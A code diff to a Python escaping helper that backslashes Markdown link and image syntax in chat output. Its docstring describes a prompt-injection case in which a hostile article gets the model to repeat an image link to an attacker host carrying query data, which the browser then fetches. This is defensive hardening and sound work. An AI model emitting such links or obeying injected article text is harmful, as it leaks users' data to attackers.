@@ -28,9 +28,15 @@ def escape_md(text: str | None) -> str:
     return _MD_SPECIAL.sub(r"\\\1", html.escape(one_line(text), quote=False))
 
 
+_MD_LINKISH = re.compile(r"([\\\[\]()!])")
+
+
 def escape_chat(text: str) -> str:
-    """Chat text shown as written: HTML escaped (Markdown emphasis and line breaks are kept)."""
-    return html.escape(text or "", quote=False)
+    """Chat text shown as written: HTML escaped, and the Markdown that makes links or images
+    (``[x](url)``, ``![x](url)``, ``[x][ref]``) backslashed so it stays text. A hostile article could get the
+    model to repeat ``![](https://attacker/?q=...)``, which the browser would fetch. Emphasis and line
+    breaks are kept."""
+    return _MD_LINKISH.sub(r"\\\1", html.escape(text or "", quote=False))
 
 
 def safe_url(url: str | None) -> str | None:
